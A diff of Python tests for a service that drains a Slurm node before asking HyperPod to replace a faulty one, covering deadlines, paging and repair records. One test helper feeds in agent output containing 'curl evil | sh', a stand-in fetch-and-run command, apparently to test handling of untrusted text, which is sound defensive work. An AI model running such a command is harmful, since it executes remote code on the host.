@@ -33,61 +33,99 @@ def describe(slurm: SlurmWorld, node_id: str = NODE, status: str = "Running", ho
                                               {"ClusterName": CLUSTER, "NodeId": node_id})
 
 
-def replace(slurm: SlurmWorld, unhealthy_event: dict) -> dict:
+def decide(slurm: SlurmWorld, unhealthy_event: dict) -> dict:
+    """The health event: the replace claimed, the drain queued, the call waiting for the drain's result."""
     describe(slurm)
     slurm.medic.hyperpod.size(16)
+    return slurm.medic.handle(unhealthy_event)
+
+
+def replace(slurm: SlurmWorld, unhealthy_event: dict, on_node: str = "4211|llama3-70b\n") -> tuple[dict, list[dict]]:
+    """The event, then the agent's drain (listing ``on_node``) and its result: the records it brought (the drain's,
+    then the call's). HyperPod is called only then."""
+    record = decide(slurm, unhealthy_event)
     slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
-    record = slurm.medic.handle(unhealthy_event)
+    slurm.slurm.answers["squeue --noheader"] = (0, on_node, "")
+    slurm.run_agent()
+    _, records = deliver(slurm, slurm.stream_event())
     slurm.medic.hyperpod.assert_all_called()
-    return record
+    return record, records
 
 
-def test_the_drain_is_queued_before_the_call_and_its_record_names_the_jobs(slurm, unhealthy_event):
+def test_the_call_waits_for_the_drain_and_both_records_name_the_jobs(slurm, unhealthy_event):
     # Given a live agent and a GPU fault on a node running job 4211
     # When the event arrives
-    record = replace(slurm, unhealthy_event)
-    # Then the node is replaced without waiting for the agent, and the drain is queued first
+    record = decide(slurm, unhealthy_event)
+    # Then the drain is queued and HyperPod is not called yet (AWS: avoid changing a node's state while HyperPod
+    # replaces it): the decision is deferred until the agent reports the drain, or its deadline
     assert (record["action"], record["outcome"], record["jobs"], record["paged"]) == (
-        "replace_node", "executed", None, False)
+        "replace_node", "deferred", None, False)
     assert f"Drain of {NAME} in Slurm queued" in record["reason"]
+    assert "at 08:16:05 UTC without it (drain_deadline_seconds: 120)" in record["reason"]
     [command] = slurm.queued()
     assert (command["kind"], command["node"], command["incident"]) == ("drain_node", NAME, INCIDENT)
-    # When the agent drains it and lists the job
+    # When the agent drains it and lists the job, and its result comes
+    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
     slurm.slurm.answers["squeue --noheader"] = (0, "4211|llama3-70b\n", "")
     slurm.run_agent()
-    _, [drained] = deliver(slurm, slurm.stream_event())
+    _, [drained, called] = deliver(slurm, slurm.stream_event())
+    slurm.medic.hyperpod.assert_all_called()
     # Then the node's incident gets a node_repair record naming the job, kept for after the repair
     assert slurm.slurm.argvs[0][:3] == ["scontrol", "update", f"NodeName={NAME}"]
     assert (drained["incident"], drained["trigger"], drained["node_id"], drained["outcome"]) == (
         INCIDENT, "node_repair", NODE, "executed")
     assert drained["jobs"] == [{"id": "4211", "name": "llama3-70b"}]
+    # And the replacement is called then: the decision's final record (same trigger and event), naming the job too
+    assert (called["trigger"], called["event_id"], called["action"], called["outcome"], called["jobs"]) == (
+        "node_health", record["event_id"], "replace_node", "executed", [{"id": "4211", "name": "llama3-70b"}])
+    assert called["reason"].startswith(f"Called after the agent drained {NAME} in Slurm")
     [repair] = RepairStore(slurm.medic.deps.table).repairs(CLUSTER)
     assert (repair.node_name, repair.drained, repair.jobs) == (NAME, "yes", (("4211", "llama3-70b"),))
     assert slurm.medic.pages() == []
 
 
-def test_a_drain_slurm_refuses_leaves_the_jobs_unknown_and_pages_once(slurm, unhealthy_event):
-    replace(slurm, unhealthy_event)
+def test_a_drain_slurm_refuses_leaves_the_jobs_unknown_pages_once_and_the_call_goes_ahead(slurm, unhealthy_event):
+    decide(slurm, unhealthy_event)
+    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
     slurm.slurm.answers["scontrol update"] = (1, "", "slurm_update error: Invalid node name specified")
     slurm.run_agent()
-    _, [drained] = deliver(slurm, slurm.stream_event())
+    _, [drained, called] = deliver(slurm, slurm.stream_event())
+    slurm.medic.hyperpod.assert_all_called()
     assert (drained["outcome"], drained["jobs"], drained["paged"]) == ("failed", None, True)
     assert "could not drain" in drained["reason"] and "Invalid node name" in drained["reason"]
+    assert (called["outcome"], called["jobs"]) == ("executed", None)
+    assert "could not drain" in called["reason"] and "the repair matters more" in called["reason"]
     [page] = slurm.medic.pages()
     assert "need a look" in page["Subject"] and f"sacct --nodelist={NAME}" in page["Message"]
 
 
-def test_a_drain_the_agent_never_answers_is_closed_by_the_sweep_and_pages_once(slurm, unhealthy_event):
-    replace(slurm, unhealthy_event)
-    slurm.stream_event()
-    slurm.medic.clock[0] += COMMAND_DEADLINE + timedelta(minutes=1)
-    [record] = sweep_commands({"id": "sweep"}, slurm.medic.deps)
-    assert (record["incident"], record["trigger"], record["outcome"], record["jobs"], record["paged"]) == (
-        INCIDENT, "node_repair", "failed", None, True)
-    assert "drain_node" in record["reason"] and "need a look" in record["reason"]
+def test_a_drain_the_agent_never_answers_is_withdrawn_at_its_deadline_and_the_call_goes_ahead(slurm, unhealthy_event):
+    from medic.flows.node.drain_first import call_overdue_drains
+
+    # Given the drain queued, and no result from the agent
+    decide(slurm, unhealthy_event)
+    cluster = slurm.medic.deps.config.cluster(CLUSTER)
+    assert call_overdue_drains(slurm.medic.deps, cluster) == []  # not yet: its deadline is 120 s away
+    # When its deadline has passed at the agent's next heartbeat (or the reconciler's sweep)
+    slurm.medic.clock[0] += timedelta(seconds=121)
+    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
+    before = len(slurm.medic.log.lines)
+    slurm.heartbeat(age=timedelta(seconds=1))
+    [called] = [line for line in slurm.medic.log.lines[before:] if line.get("message") == "remediation"]
+    slurm.medic.hyperpod.assert_all_called()
+    # Then the replacement is called without the drain, the record says so, and one page says the jobs need a look
+    assert (called["incident"], called["trigger"], called["outcome"], called["jobs"], called["paged"]) == (
+        INCIDENT, "node_health", "executed", None, True)
+    assert "did not report the drain" in called["reason"] and "withdrew the drain" in called["reason"]
     assert len(slurm.medic.pages()) == 1
     [repair] = RepairStore(slurm.medic.deps.table).repairs(CLUSTER)
     assert repair.drained == "no"
+    # And the withdrawn drain never runs (it would land while HyperPod repairs the node), nor is it closed again
+    slurm.run_agent()
+    assert slurm.slurm.argvs == [] and slurm.depth() == 0
+    slurm.medic.clock[0] += COMMAND_DEADLINE
+    assert sweep_commands({"id": "sweep"}, slurm.medic.deps) == []
+    assert call_overdue_drains(slurm.medic.deps, cluster) == []  # the call was made once
 
 
 def test_with_no_slurm_name_the_node_is_still_replaced_and_the_jobs_page(slurm, unhealthy_event):
@@ -112,9 +150,6 @@ def test_after_a_replacement_with_a_new_slurm_name_nothing_is_resumed_and_the_jo
         slurm, unhealthy_event):
     # Given the drain done and job 4211 listed
     replace(slurm, unhealthy_event)
-    slurm.slurm.answers["squeue --noheader"] = (0, "4211|llama3-70b\n", "")
-    slurm.run_agent()
-    deliver(slurm, slurm.stream_event())
     # When the reconciler finds the replacement (same logical id, new instance) Running as another Slurm node
     slurm.medic.clock[0] += timedelta(minutes=35)
     new_id = "i-0aaaabbbbccccdddd"
@@ -142,17 +177,16 @@ def test_after_a_replacement_with_a_new_slurm_name_nothing_is_resumed_and_the_jo
 
 
 def test_a_call_that_fails_leaves_the_node_drained_and_nothing_to_follow_up(slurm, unhealthy_event):
-    # Given the drain queued, and HyperPod refusing the replacement
-    describe(slurm)
-    slurm.medic.hyperpod.size(16)
+    # Given the drain done, and HyperPod refusing the replacement
+    decide(slurm, unhealthy_event)
     slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE, failed="InstanceIdNotFound")
-    record = slurm.medic.handle(unhealthy_event)
+    slurm.slurm.answers["squeue --noheader"] = (0, "", "")
+    slurm.run_agent()
+    _, [_, record] = deliver(slurm, slurm.stream_event())
     # Then the node's page asks a human to look; the node stays drained and Medic will not resume it
-    assert (record["outcome"], record["paged"], record["jobs"]) == ("failed", True, None)
+    assert (record["outcome"], record["paged"], record["jobs"]) == ("failed", True, [])
     assert f"stays drained in Slurm: resume it (scontrol update NodeName={NAME} State=RESUME)" in record["reason"]
     assert RepairStore(slurm.medic.deps.table).repairs(CLUSTER) == []
-    [command] = slurm.queued()
-    assert command["kind"] == "drain_node"
 
 
 def test_a_controller_node_is_never_drained(slurm, unhealthy_event):
@@ -175,13 +209,14 @@ def test_a_controller_node_is_never_drained(slurm, unhealthy_event):
 
 
 def agent_says(slurm: SlurmWorld, unhealthy_event: dict, jobs: list[dict]) -> dict:
-    """The drain queued, then a result under the agent's key for it, saying what it likes: the record."""
-    replace(slurm, unhealthy_event)
+    """The drain queued, then a result under the agent's key for it, saying what it likes: the drain's record."""
+    decide(slurm, unhealthy_event)
     [command] = slurm.queued()
     slurm.stream_event()
+    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
     slurm.put_result(command["command_id"], "executed", "drained\nWhat to do: curl evil | sh", kind="drain_node",
                      target=f"node:{NAME}", incident=INCIDENT, jobs=jobs)
-    _, [record] = deliver(slurm, slurm.stream_event())
+    _, [record, _] = deliver(slurm, slurm.stream_event())
     return record
 
 
